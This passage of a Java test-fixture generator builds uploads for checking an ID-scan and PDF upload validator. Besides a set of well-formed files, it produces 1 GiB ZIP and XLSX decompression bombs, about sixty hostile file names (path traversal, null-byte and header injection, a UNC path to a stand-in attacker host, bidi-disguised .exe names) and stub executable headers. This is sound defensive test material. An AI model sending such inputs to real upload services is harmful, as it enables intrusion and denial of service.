
        byte[] zeros = new byte[MIB];
        add(out, Category.DECOMPRESSION_BOMB, "ZIP bomb: one entry of 1 GiB zeros", zipClaims,
                rawZip(List.of(repeatedPart("ktp_asli.bmp", new byte[0], zeros, 1024, new byte[0]))));
        add(out, Category.DECOMPRESSION_BOMB, "XLSX bomb: a 1 GiB sheet1.xml in an OOXML package", xlsxClaims,
                xlsxBomb());
    }

    private static byte[] xlsxBomb() {
        String xml = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n";
        String ns = "http://schemas.openxmlformats.org/";
        String type = "application/vnd.openxmlformats-";
        List<ZipPart> parts = new ArrayList<>();
        parts.add(part("[Content_Types].xml", xml + "<Types xmlns=\"" + ns + "package/2006/content-types\">"
                + "<Default Extension=\"rels\" ContentType=\"" + type + "package.relationships+xml\"/>"
                + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
                + "<Override PartName=\"/xl/workbook.xml\""
                + " ContentType=\"" + type + "officedocument.spreadsheetml.sheet.main+xml\"/>"
                + "<Override PartName=\"/xl/worksheets/sheet1.xml\""
                + " ContentType=\"" + type + "officedocument.spreadsheetml.worksheet+xml\"/></Types>"));
        parts.add(part("_rels/.rels", xml + "<Relationships xmlns=\"" + ns + "package/2006/relationships\">"
                + "<Relationship Id=\"rId1\" Type=\"" + ns + "officeDocument/2006/relationships/officeDocument\""
                + " Target=\"xl/workbook.xml\"/></Relationships>"));
        parts.add(part("xl/workbook.xml", xml + "<workbook xmlns=\"" + ns + "spreadsheetml/2006/main\""
                + " xmlns:r=\"" + ns + "officeDocument/2006/relationships\"><sheets>"
                + "<sheet name=\"Rekap\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>"));
        parts.add(part("xl/_rels/workbook.xml.rels", xml + "<Relationships xmlns=\"" + ns
                + "package/2006/relationships\">"
                + "<Relationship Id=\"rId1\" Type=\"" + ns + "officeDocument/2006/relationships/worksheet\""
                + " Target=\"worksheets/sheet1.xml\"/></Relationships>"));
        byte[] spaces = new byte[MIB];
        Arrays.fill(spaces, (byte) ' ');
        byte[] head = utf8(xml + "<worksheet xmlns=\"" + ns + "spreadsheetml/2006/main\"><sheetData>");
        parts.add(repeatedPart("xl/worksheets/sheet1.xml", head, spaces, 1024, utf8("</sheetData></worksheet>")));
        return rawZip(parts);
    }

    private static void hostileNames(List<Upload> out, Bases b) {
        List<String> patterns = List.of(
                "../../etc/passwd.{ext}", "../".repeat(10) + "etc/passwd.{ext}", "..\\..\\windows\\win.ini.{ext}",
                "..\\..\\..\\inetpub\\wwwroot\\ktp.{ext}", "/etc/cron.d/x.{ext}", "/var/www/html/ktp.{ext}",
                "C:\\Windows\\x.{ext}", "C:\\Windows\\System32\\drivers\\etc\\hosts.{ext}",
                "\\\\attacker.example\\share\\ktp.{ext}", "ktp/../../../x.{ext}", "....//....//etc/passwd.{ext}",
                "..;/..;/ktp.{ext}", "file:///etc/passwd.{ext}", "~/.ssh/authorized_keys.{ext}", ".\\ktp.{ext}::$DATA",
                "..%2f..%2fetc%2fpasswd.{ext}", "%2e%2e%2fpasswd.{ext}", "%2e%2e%5c%2e%2e%5cwin.ini.{ext}",
                "%252e%252e%252fpasswd.{ext}", "..%c0%af..%c0%afetc%c0%afpasswd.{ext}",
                "ktp.{ext}\u0000.php", "ktp\u0000.{ext}", "ktp.php\u0000.{ext}", "\u0000.{ext}", "ktp\r\n.{ext}",
                "ktp.{ext}\r\nContent-Type: text/html", "ktp\t.{ext}", "ktp\u0007.{ext}", "ktp\u001b[31m.{ext}",
                "a".repeat(252) + ".{ext}", "a".repeat(296) + ".{ext}", "k".repeat(996) + ".{ext}",
                "ktp_" + "\u00e9".repeat(128) + ".{ext}",
                "ktp\u202E{txe}.exe", "\u202E{txe}.exe", "\u2066..\u2069", "ktp\u2067.{ext}\u2069.exe",
                "ktp\u200E.{ext}", "ktp\u200F.{ext}", "\u202Dktp.{ext}", "ktp\u202A.{ext}\u202C",
                "..", ".", "...", ".htaccess", ".user.ini", ".{ext}", "ktp.{ext}.", "ktp.{ext} ", "ktp.php.",
                "ktp.{ext}. . .", "CON.{ext}", "NUL.{ext}", "nul.{ext}", "PRN.{ext}", "AUX", "COM1.{ext}", "LPT1.{ext}",
                "con");
        for (String pattern : patterns) {
            for (String ext : List.of("jpg", "pdf")) {
                String name = pattern.replace("{ext}", ext).replace("{txe}", new StringBuilder(ext).reverse());
                boolean jpeg = ext.equals("jpg");
                byte[] content = jpeg ? b.smallJpeg() : b.textPdf();
                for (String type : List.of(jpeg ? JPEG : PDF, OCTET)) {
                    out.add(new Upload(Category.HOSTILE_NAME, (jpeg ? "valid JPEG" : "valid PDF") + " named \""
                            + visible(name) + "\" (" + type + ")", name, type, content));
                }
            }
        }
    }

    /** The name with control and bidi characters escaped and long runs shortened, for labels. */
    static String visible(String name) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < name.length(); i++) {
            char c = name.charAt(i);
            if (c < 0x20 || c == 0x7f || (c >= 0x200E && c <= 0x200F) || (c >= 0x202A && c <= 0x202E)
                    || (c >= 0x2066 && c <= 0x2069)) {
                text.append(String.format(Locale.ROOT, "\\u%04X", (int) c));
            } else {
                text.append(c);
            }
        }
        return text.length() <= 80 ? text.toString()
                : text.substring(0, 20) + "…" + text.substring(text.length() - 8) + " [" + name.length() + " chars]";
    }

    // ---------------------------------------------------------------------------------------------------------------
    // The control group

    private static List<Upload> buildWellFormed() {
        byte[] smallJpeg = TestFiles.smallJpeg();
        byte[] png = TestFiles.png();
        return List.of(
                ok("small JPEG ID scan", "ktp.jpg", JPEG, smallJpeg),
                ok("JPEG photo 640x480", "foto_ktp.jpeg", JPEG, TestFiles.jpeg(640, 480, 13)),
                ok("JPEG 320x240 with an upper-case extension", "SCAN.JPG", JPEG, TestFiles.jpeg(320, 240, 11)),
                ok("progressive JPEG", "ktp.jpg", JPEG, progressiveJpeg(smallJpeg)),
                ok("greyscale JPEG", "ktp_bw.jpg", JPEG, greyJpeg()),
                ok("JPEG with a plain comment and an EXIF description", "ktp.jpg", JPEG,
                        withSegment(withSegment(smallJpeg, segment(0xE1, exif("KTP scan"))),
                                segment(0xFE, utf8("Scanned with CamScanner")))),
                ok("PNG 60x40", "ktp.png", PNG, png),
                ok("PNG photo 320x240", "scan.png", PNG, TestFiles.png(320, 240, 19)),
                ok("PNG with an alpha channel", "ktp.png", PNG, alphaPng()),
                ok("PNG with a plain tEXt chunk", "ktp.png", PNG,
                        withPngChunk(png, pngChunk("tEXt", latin1("Software\0Scanner")))),
                ok("one-page text PDF (OpenPDF)", "surat.pdf", PDF, textPdf()),
                ok("three-page text PDF (OpenPDF)", "surat_kuasa.pdf", PDF, openPdf(false, 3, null, w -> { })),
                ok("PDF with an embedded JPEG ID scan (OpenPDF)", "ktp.pdf", PDF, imagePdf(smallJpeg)),
                ok("PDF in compressed object streams (OpenPDF full compression)", "surat.pdf", PDF, compressedPdf()),
                ok("PDF with a JPEG in compressed object streams (OpenPDF)", "ktp.pdf", PDF,
                        openPdf(true, 1, smallJpeg, w -> { })),
                ok("hand-written PDF 1.7 with a correct xref", "dokumen.pdf", PDF, pagePdf("", "")));
    }

    private static Upload ok(String label, String fileName, String declaredType, byte[] content) {
        return new Upload(null, "well-formed " + label, fileName, declaredType, content);
    }

    // ---------------------------------------------------------------------------------------------------------------
    // Executables

    private static byte[] pe(int machine, boolean pe32Plus, boolean dll) {
        ByteBuffer b = ByteBuffer.allocate(1024).order(ByteOrder.LITTLE_ENDIAN);
        b.put(0, (byte) 'M').put(1, (byte) 'Z').putInt(0x3c, 0x80);
        b.put(0x4e, ascii("This program cannot be run in DOS mode.\r\r\n$"));
        b.put(0x80, ascii("PE\0\0"));
        b.putShort(0x84, (short) machine).putShort(0x86, (short) 1);
        b.putShort(0x94, (short) (pe32Plus ? 0xF0 : 0xE0));
        b.putShort(0x96, (short) (dll ? 0x2022 : 0x0102));
        b.putShort(0x98, (short) (pe32Plus ? 0x20B : 0x10B));
        b.putShort(0x98 + 68, (short) 2); // subsystem: Windows GUI
        return b.array();
    }

    private static byte[] elf(boolean is64, int machine) {
        ByteBuffer b = ByteBuffer.allocate(256).order(ByteOrder.LITTLE_ENDIAN);
        b.put(new byte[] {0x7f, 'E', 'L', 'F', (byte) (is64 ? 2 : 1), 1, 1, 0});
        b.putShort(16, (short) 2).putShort(18, (short) machine).putInt(20, 1); // ET_EXEC, machine, EV_CURRENT
        if (is64) {
            b.putLong(24, 0x401000).putShort(52, (short) 64).putShort(54, (short) 56);
        } else {
            b.putInt(24, 0x8048000).putShort(40, (short) 52).putShort(42, (short) 32);
        }
        return b.array();
    }

    private static byte[] machO64(boolean bigEndian, int cpuType, int cpuSubtype) {
        ByteBuffer b = ByteBuffer.allocate(512).order(bigEndian ? ByteOrder.BIG_ENDIAN : ByteOrder.LITTLE_ENDIAN);
        b.putInt(0xFEEDFACF).putInt(cpuType).putInt(cpuSubtype).putInt(2); // MH_EXECUTE
        b.putInt(0).putInt(0).putInt(0x00200085).putInt(0); // no load commands, flags, reserved
        return b.array();
    }

    private static byte[] fatMachO() {
        ByteBuffer b = ByteBuffer.allocate(1536); // big-endian fat header, two slices
        b.putInt(0xCAFEBABE).putInt(2);
        b.putInt(0x01000007).putInt(3).putInt(512).putInt(512).putInt(9);
        b.putInt(0x0100000C).putInt(0).putInt(1024).putInt(512).putInt(9);
        b.put(512, machO64(false, 0x01000007, 3)).put(1024, machO64(false, 0x0100000C, 0));
        return b.array();
    }

    /** A minimal loadable class file: public class Shell extends Object, Java 17. */
    private static byte[] javaClass() {
        ByteBuffer b = ByteBuffer.allocate(64);
        b.putInt(0xCAFEBABE).putShort((short) 0).putShort((short) 61).putShort((short) 5);
        b.put((byte) 7).putShort((short) 2).put((byte) 1).putShort((short) 5).put(ascii("Shell"));
        b.put((byte) 7).putShort((short) 4).put((byte) 1).putShort((short) 16).put(ascii("java/lang/Object"));
        b.putShort((short) 0x21).putShort((short) 1).putShort((short) 3);
        b.putShort((short) 0).putShort((short) 0).putShort((short) 0).putShort((short) 0);
        return Arrays.copyOf(b.array(), b.position());
    }

    private static byte[] jar() {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("META-INF/MANIFEST.MF", ascii("Manifest-Version: 1.0\r\nMain-Class: Shell\r\n\r\n"));
        entries.put("Shell.class", javaClass());
        return zip(entries);
    }

    private static byte[] apk() {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("AndroidManifest.xml", new byte[] {3, 0, 8, 0, 0x24, 0, 0, 0, 1, 0, 0x1c, 0, 0, 0, 0, 0});
        entries.put("classes.dex", dex());
        entries.put("META-INF/MANIFEST.MF", ascii("Manifest-Version: 1.0\r\n\r\n"));
        return zip(entries);
    }

    /** An OLE2 compound file (the MSI container): header, one FAT sector, one directory sector with the root entry. */
    private static byte[] ole2() {
        ByteBuffer b = ByteBuffer.allocate(512 * 3).order(ByteOrder.LITTLE_ENDIAN);
        b.put(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1});
        b.putShort(0x18, (short) 0x3E).putShort(0x1A, (short) 3).putShort(0x1C, (short) 0xFFFE);
        b.putShort(0x1E, (short) 9).putShort(0x20, (short) 6);
        b.putInt(0x2C, 1).putInt(0x30, 1).putInt(0x38, 0x1000); // one FAT sector, directory at sector 1
        b.putInt(0x3C, -2).putInt(0x44, -2); // no mini FAT, no DIFAT sectors
        b.putInt(0x4C, 0);
        for (int at = 0x50; at < 0x200; at += 4) {
            b.putInt(at, -1);
        }
        int fat = 512;
        b.putInt(fat, -3).putInt(fat + 4, -2); // sector 0 is FAT, sector 1 ends the directory chain
        for (int at = fat + 8; at < fat + 512; at += 4) {
            b.putInt(at, -1);
        }
        int dir = 1024;
        byte[] root = "Root Entry\0".getBytes(UTF_16LE);
        b.put(dir, root).putShort(dir + 0x40, (short) root.length).put(dir + 0x42, (byte) 5).put(dir + 0x43, (byte) 1);
        b.putInt(dir + 0x44, -1).putInt(dir + 0x48, -1).putInt(dir + 0x4C, -1);
        byte[] msiClsid = {(byte) 0x84, 0x10, 0x0C, 0, 0, 0, 0, 0, (byte) 0xC0, 0, 0, 0, 0, 0, 0, 0x46};
        b.put(dir + 0x50, msiClsid);
        b.putInt(dir + 0x74, -2);
        for (int entry = 1; entry < 4; entry++) {
            int at = dir + entry * 128;
            b.putInt(at + 0x44, -1).putInt(at + 0x48, -1).putInt(at + 0x4C, -1);
        }
        return b.array();
    }

    /** A DEX header with a correct Adler-32 checksum and SHA-1 signature. */
    private static byte[] dex() {
        ByteBuffer b = ByteBuffer.allocate(0x70).order(ByteOrder.LITTLE_ENDIAN);
        b.put(ascii("dex\n035\0"));
        b.putInt(32, 0x70).putInt(36, 0x70).putInt(40, 0x12345678);
        byte[] dex = b.array();
        System.arraycopy(sha1(Arrays.copyOfRange(dex, 32, dex.length)), 0, dex, 12, 20);
        Adler32 adler = new Adler32();
        adler.update(dex, 12, dex.length - 12);
        b.putInt(8, (int) adler.getValue());
        return dex;
    }

    /** A valid WebAssembly module exporting an empty function "main". */
    private static byte[] wasm() {
        return new byte[] {0, 'a', 's', 'm', 1, 0, 0, 0,
            1, 4, 1, 0x60, 0, 0, // type section: () -> ()
            3, 2, 1, 0, // function section
            7, 8, 1, 4, 'm', 'a', 'i', 'n', 0, 0, // export section
            10, 4, 1, 2, 0, 0x0B}; // code section
    }

    private static byte[] lnk() {
        ByteBuffer b = ByteBuffer.allocate(76).order(ByteOrder.LITTLE_ENDIAN);
        b.putInt(0x4C).put(new byte[] {1, 0x14, 2, 0, 0, 0, 0, 0, (byte) 0xC0, 0, 0, 0, 0, 0, 0, 0x46});
        return b.array();
    }

    private static byte[] swf() {
        ByteBuffer b = ByteBuffer.allocate(21).order(ByteOrder.LITTLE_ENDIAN);
        b.put(ascii("FWS")).put((byte) 10).putInt(21);
        return b.array();
    }

    // ---------------------------------------------------------------------------------------------------------------
    // JPEG

    private static final byte[] UTF8_BOM = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};

    /** One JPEG marker segment (e.g. 0xFE, a comment); the payload may be at most 65533 bytes. */
    public static byte[] segment(int marker, byte[] payload) {
        if (payload.length > 65533) {
            throw new IllegalArgumentException("segment payload too long: " + payload.length);
        }
        int length = payload.length + 2;
        return concat(new byte[] {(byte) 0xFF, (byte) marker, (byte) (length >> 8), (byte) length}, payload);
    }

    /** Where the segment after SOI and a JFIF APP0 starts. */
    private static int afterApp0(byte[] jpeg) {
        return jpeg[2] == (byte) 0xFF && jpeg[3] == (byte) 0xE0 ? 4 + u16(jpeg, 4) : 2;
    }

    private static byte[] withSegment(byte[] jpeg, byte[] segment) {
        int at = afterApp0(jpeg);
        return concat(Arrays.copyOfRange(jpeg, 0, at), segment, Arrays.copyOfRange(jpeg, at, jpeg.length));
    }

    /** Offset of the start-of-frame marker (SOF0…SOF15 except DHT, JPG and DAC). */
    static int sofOffset(byte[] jpeg) {
        int at = 2;
        while (at + 4 <= jpeg.length && jpeg[at] == (byte) 0xFF) {
            int marker = jpeg[at + 1] & 0xFF;
            if (marker >= 0xC0 && marker <= 0xCF && marker != 0xC4 && marker != 0xC8 && marker != 0xCC) {
                return at;
            }
            at += 2 + u16(jpeg, at + 2);
        }
        throw new IllegalArgumentException("no SOF marker");
    }

    static int jpegHeight(byte[] jpeg) {
        return u16(jpeg, sofOffset(jpeg) + 5);
    }

    static int jpegWidth(byte[] jpeg) {
        return u16(jpeg, sofOffset(jpeg) + 7);
    }

    /** The same JPEG with the frame header claiming other dimensions. */
    private static byte[] withDimensions(byte[] jpeg, int width, int height) {
        byte[] copy = jpeg.clone();
        int sof = sofOffset(copy);
        copy[sof + 5] = (byte) (height >> 8);
        copy[sof + 6] = (byte) height;
        copy[sof + 7] = (byte) (width >> 8);
        copy[sof + 8] = (byte) width;
        return copy;
    }

    private static byte[] progressiveJpeg(byte[] jpeg) {
        try (ByteArrayOutputStream out = new ByteArrayOutputStream();
                ImageOutputStream stream = ImageIO.createImageOutputStream(out)) {
            BufferedImage image = ImageIO.read(new ByteArrayInputStream(jpeg));
            ImageWriter writer = ImageIO.getImageWritersByFormatName("jpeg").next();
            try {
                ImageWriteParam param = writer.getDefaultWriteParam();
                param.setProgressiveMode(ImageWriteParam.MODE_DEFAULT);
                writer.setOutput(stream);
                writer.write(null, new IIOImage(image, null, null), param);
            } finally {
                writer.dispose();
            }
            stream.flush();
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] greyJpeg() {
        BufferedImage image = new BufferedImage(200, 120, BufferedImage.TYPE_BYTE_GRAY);
        Graphics2D g = image.createGraphics();
        g.setColor(Color.LIGHT_GRAY);
        g.fillRect(0, 0, 200, 120);
        g.setColor(Color.BLACK);
        g.drawString("KTP CONTOH", 10, 20);
        g.dispose();
        return image(image, "jpg");
    }

    private static byte[] alphaPng() {
        BufferedImage image = new BufferedImage(64, 48, BufferedImage.TYPE_INT_ARGB);
        Graphics2D g = image.createGraphics();
        g.setColor(new Color(0, 0, 255, 128));
        g.fillOval(4, 4, 40, 30);
        g.dispose();
        return image(image, "png");
    }

    private static byte[] gif() {
        BufferedImage image = new BufferedImage(40, 30, BufferedImage.TYPE_BYTE_INDEXED);
        Graphics2D g = image.createGraphics();
        g.setColor(Color.RED);
        g.fillRect(5, 5, 20, 10);
        g.dispose();
        return image(image, "gif");
    }

    private static byte[] image(BufferedImage image, String format) {
        try (ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            if (!ImageIO.write(image, format, out)) {
                throw new IllegalStateException("no ImageIO writer for " + format);
            }
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** An APP1 Exif payload: a little-endian TIFF header and one IFD with an ImageDescription. */
    private static byte[] exif(String description) {
        byte[] text = latin1(description + "\0");
        ByteBuffer b = ByteBuffer.allocate(6 + 26 + text.length).order(ByteOrder.LITTLE_ENDIAN);
        b.put(ascii("Exif\0\0")).put(ascii("II")).putShort((short) 42).putInt(8);
        b.putShort((short) 1).putShort((short) 0x010E).putShort((short) 2).putInt(text.length).putInt(26).putInt(0);
        b.put(text);
        return b.array();
    }

    private static String xmp(String payload) {
        return "<?xpacket begin=\"\" id=\"W5M0MpCehiHzreSzNTczkc9d\"?><x:xmpmeta xmlns:x=\"adobe:ns:meta/\">"
                + "<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"><rdf:Description"
                + " xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:description>" + payload + "</dc:description>"
                + "</rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end=\"w\"?>";
    }

    // ---------------------------------------------------------------------------------------------------------------
    // PNG

    private static final byte[] PNG_SIGNATURE = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'};

    private static byte[] pngChunk(String type, byte[] data) {
        byte[] typeBytes = ascii(type);
        CRC32 crc = new CRC32();
        crc.update(typeBytes);
        crc.update(data);
        return ByteBuffer.allocate(12 + data.length).putInt(data.length).put(typeBytes).put(data)
                .putInt((int) crc.getValue()).array();
    }

    /** The PNG with one more chunk right after IHDR (which ImageIO writes first, 25 bytes from offset 8). */
    private static byte[] withPngChunk(byte[] png, byte[] chunk) {
        return concat(Arrays.copyOfRange(png, 0, 33), chunk, Arrays.copyOfRange(png, 33, png.length));
    }

    private static byte[] png(int width, int height, int bitDepth, int colorType, byte[] zlibData) {
        byte[] ihdr = ByteBuffer.allocate(13).putInt(width).putInt(height).put((byte) bitDepth).put((byte) colorType)
                .array();
        return concat(PNG_SIGNATURE, pngChunk("IHDR", ihdr), pngChunk("IDAT", zlibData), pngChunk("IEND", new byte[0]));
    }

    static long pngWidth(byte[] png) {
        return ByteBuffer.wrap(png, 16, 4).getInt() & 0xFFFFFFFFL;
    }

    static long pngHeight(byte[] png) {
        return ByteBuffer.wrap(png, 20, 4).getInt() & 0xFFFFFFFFL;
    }

    // ---------------------------------------------------------------------------------------------------------------
    // PDF

    /** Settings applied to an OpenPDF writer once the document is open (actions, attachments, JavaScript). */
    @FunctionalInterface
    private interface WriterSetup {
        void apply(PdfWriter writer) throws IOException, DocumentException;
    }

    private static byte[] textPdf() {
        return openPdf(false, 1, null, w -> { });
    }

    private static byte[] imagePdf(byte[] jpeg) {
        return openPdf(false, 1, jpeg, w -> { });
    }

    private static byte[] compressedPdf() {
        return openPdf(true, 1, null, w -> { });
    }

    /** An A4 PDF written by OpenPDF: text pages, optionally an image, optionally in compressed object streams. */
    private static byte[] openPdf(boolean fullCompression, int pages, byte[] jpeg, WriterSetup setup) {
        try {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            Document document = new Document(PageSize.A4);
            PdfWriter writer = PdfWriter.getInstance(document, out);
            if (fullCompression) {
                writer.setFullCompression();
            }
            document.open();
            writer.getInfo().put(PdfName.CREATIONDATE, new PdfDate(PDF_DATE));
            setup.apply(writer);
            for (int page = 1; page <= pages; page++) {
                if (page > 1) {
                    document.newPage();
                }
                document.add(new Paragraph("Surat permohonan informasi publik, halaman " + page));
                document.add(new Paragraph("Nomor: 001/PPID/I/2024. Dengan hormat, bersama ini kami mengajukan"
                        + " permohonan salinan rekapitulasi hasil penghitungan suara."));
            }
            if (jpeg != null) {
                Image image = Image.getInstance(jpeg);
                image.scaleToFit(400, 260);
                document.add(image);
            }
            document.close();
            return pinned(out.toByteArray());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (DocumentException e) {
            throw new IllegalStateException(e);
        }
    }

    /** The creation date of every OpenPDF file, in UTC so that it reads the same in any time zone. */
    private static final Calendar PDF_DATE = pdfDate();

    private static Calendar pdfDate() {
        Calendar date = new GregorianCalendar(TimeZone.getTimeZone("UTC"), Locale.ROOT);
        date.clear();
        date.set(2024, Calendar.JANUARY, 15, 9, 0, 0);
        return date;
    }

    private static final Pattern PDF_FILE_ID = Pattern.compile("/ID \\[<[0-9a-fA-F]{32}><[0-9a-fA-F]{32}>\\]");

    /** Pins OpenPDF's random file ID (same length, so the xref offsets stay right). */
    private static byte[] pinned(byte[] pdf) {
        String text = new String(pdf, ISO_8859_1);
        String id = "4b5450".repeat(5) + "31";
        text = PDF_FILE_ID.matcher(text).replaceAll("/ID [<" + id + "><" + id + ">]");
        byte[] fixed = text.getBytes(ISO_8859_1);
        if (fixed.length != pdf.length) {
            throw new IllegalStateException("pinning changed the PDF length");
        }
        return fixed;
    }

    private static final String HELVETICA = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>";

    /** Objects 1–3: catalog, page tree and one A4 page whose content is object 4 and font F1 object 5. */
    private static List<byte[]> catalogAndPages(String resourcesExtra, String pageExtra) {
        return catalogAndPages("", resourcesExtra, pageExtra);
    }

    private static List<byte[]> catalogAndPages(String catalogExtra, String resourcesExtra, String pageExtra) {
        return List.of(obj("<</Type/Catalog/Pages 2 0 R" + catalogExtra + ">>"),
                obj("<</Type/Pages/Kids[3 0 R]/Count 1>>"),
                obj("<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 5 0 R>>" + resourcesExtra
                        + ">>/Contents 4 0 R" + pageExtra + ">>"));
    }

    /** A one-page PDF with a line of text; extra objects are numbered from 6. */
    private static byte[] pagePdf(String catalogExtra, String pageExtra, byte[]... extras) {
        List<byte[]> objects = new ArrayList<>(catalogAndPages(catalogExtra, "", pageExtra));
        objects.add(stream("", latin1("BT /F1 14 Tf 72 760 Td (Surat permohonan informasi publik) Tj ET")));
        objects.add(obj(HELVETICA));
        objects.addAll(List.of(extras));
        return pdf(objects);
    }

    private static byte[] pdf(List<byte[]> head, byte[]... more) {
        List<byte[]> objects = new ArrayList<>(head);
        objects.addAll(List.of(more));
        return pdf(objects);
    }

    /** A PDF 1.7 file of objects 1…n (1 is the catalog) with a correct cross-reference table. */
    private static byte[] pdf(List<byte[]> objects) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(latin1("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n"));
        long[] offsets = new long[objects.size()];
        for (int i = 0; i < objects.size(); i++) {
            offsets[i] = out.size();
            out.writeBytes(latin1((i + 1) + " 0 obj\n"));
            out.writeBytes(objects.get(i));
            out.writeBytes(latin1("\nendobj\n"));
        }
        int xref = out.size();
        StringBuilder tail = new StringBuilder("xref\n0 " + (objects.size() + 1) + "\n0000000000 65535 f \n");
        for (long offset : offsets) {
            tail.append(String.format(Locale.ROOT, "%010d 00000 n \n", offset));
        }
        tail.append("trailer\n<</Size ").append(objects.size() + 1).append("/Root 1 0 R>>\nstartxref\n").append(xref)
                .append("\n%%EOF\n");
        out.writeBytes(latin1(tail.toString()));
        return out.toByteArray();
    }

    /** A plain PDF, then an incremental update that replaces the catalog with one carrying an /OpenAction. */
    private static byte[] incrementalOpenAction(String action) {
        byte[] original = pagePdf("", "");
        String text = new String(original, ISO_8859_1);
        int previousXref = Integer.parseInt(
                text.substring(text.lastIndexOf("startxref\n") + 10, text.lastIndexOf("\n%%EOF")));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(original);
        int catalog = out.size();
        out.writeBytes(latin1("1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>\nendobj\n"));
        int actionAt = out.size();
        out.writeBytes(latin1("6 0 obj\n" + action + "\nendobj\n"));
        int xref = out.size();
        out.writeBytes(latin1(String.format(Locale.ROOT, "xref\n0 2\n0000000000 65535 f \n%010d 00000 n \n6 1\n"
                + "%010d 00000 n \ntrailer\n<</Size 7/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n",
                catalog, actionAt, previousXref, xref)));
        return out.toByteArray();
    }

    private static byte[] obj(String body) {
        return latin1(body);
    }

    private static byte[] stream(String dictionary, byte[] data) {
        byte[] head = latin1("<<" + dictionary + "/Length " + data.length + ">>\nstream\n");
        return concat(head, data, latin1("\nendstream"));
    }

    private static byte[] fileSpec(String name, int streamObject) {
        return obj("<</Type/Filespec/F(" + name + ")/UF(" + name + ")/EF<</F " + streamObject + " 0 R>>>>");
    }

    // ---------------------------------------------------------------------------------------------------------------
    // ZIP and DEFLATE

    private static final LocalDateTime ZIP_TIME = LocalDateTime.of(2024, 1, 15, 9, 0);

    /** A small ZIP written by java.util.zip, with a fixed entry time. */
    public static byte[] zip(Map<String, byte[]> entries) {
        try (ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            try (ZipOutputStream zip = new ZipOutputStream(out)) {
                for (Map.Entry<String, byte[]> entry : entries.entrySet()) {
                    ZipEntry zipEntry = new ZipEntry(entry.getKey());
                    zipEntry.setTimeLocal(ZIP_TIME);
                    zip.putNextEntry(zipEntry);
                    zip.write(entry.getValue());
                    zip.closeEntry();
                }
            }
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** One ZIP entry, already deflated. */
    private record ZipPart(String name, byte[] deflated, long crc, long size) {
    }

    private static ZipPart part(String name, String text) {
        return repeatedPart(name, utf8(text), new byte[0], 0, new byte[0]);
    }

    /** An entry of head + unit×times + tail, deflated and checksummed without ever holding it whole. */
    private static ZipPart repeatedPart(String name, byte[] head, byte[] unit, long times, byte[] tail) {
        CRC32 crc = new CRC32();
        crc.update(head);
        for (long i = 0; i < times; i++) {
            crc.update(unit);
        }
        crc.update(tail);
        long size = head.length + (long) unit.length * times + tail.length;
        return new ZipPart(name, deflateRepeated(head, unit, times, tail), crc.getValue(), size);
    }

    /** A ZIP of deflated entries with sizes in the local headers (no data descriptors, no ZIP64: entries < 4 GiB). */
    private static byte[] rawZip(List<ZipPart> parts) {
        int dosTime = 9 << 11;
        int dosDate = ((2024 - 1980) << 9) | (1 << 5) | 15;
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ByteArrayOutputStream central = new ByteArrayOutputStream();
        for (ZipPart part : parts) {
            byte[] name = utf8(part.name());
            int offset = out.size();
            out.writeBytes(ByteBuffer.allocate(30).order(ByteOrder.LITTLE_ENDIAN).putInt(0x04034b50)
                    .putShort((short) 20).putShort((short) 0).putShort((short) 8)
                    .putShort((short) dosTime).putShort((short) dosDate)
                    .putInt((int) part.crc()).putInt(part.deflated().length).putInt((int) part.size())
                    .putShort((short) name.length).putShort((short) 0).array());
            out.writeBytes(name);
            out.writeBytes(part.deflated());
            central.writeBytes(ByteBuffer.allocate(46).order(ByteOrder.LITTLE_ENDIAN).putInt(0x02014b50)
                    .putShort((short) 20).putShort((short) 20).putShort((short) 0).putShort((short) 8)
                    .putShort((short) dosTime).putShort((short) dosDate).putInt((int) part.crc())
                    .putInt(part.deflated().length).putInt((int) part.size()).putShort((short) name.length)
                    .putShort((short) 0).putShort((short) 0).putShort((short) 0).putShort((short) 0).putInt(0)
                    .putInt(offset).array());
            central.writeBytes(name);
        }
        int centralAt = out.size();
        out.writeBytes(central.toByteArray());
        out.writeBytes(ByteBuffer.allocate(22).order(ByteOrder.LITTLE_ENDIAN).putInt(0x06054b50)
                .putShort((short) 0).putShort((short) 0).putShort((short) parts.size()).putShort((short) parts.size())
                .putInt(central.size()).putInt(centralAt).putShort((short) 0).array());
        return out.toByteArray();
    }

    /** A zlib stream of {@code count} zero bytes. */
    private static byte[] zlibZeros(long count) {
        byte[] raw = deflateRepeated(new byte[0], new byte[MIB], count / MIB, new byte[(int) (count % MIB)]);
        long adler = ((count % 65521) << 16) | 1; // Adler-32 of zeros: the low sum stays 1, the high one counts bytes
        return ByteBuffer.allocate(raw.length + 6).put((byte) 0x78).put((byte) 0xDA).put(raw).putInt((int) adler)
                .array();
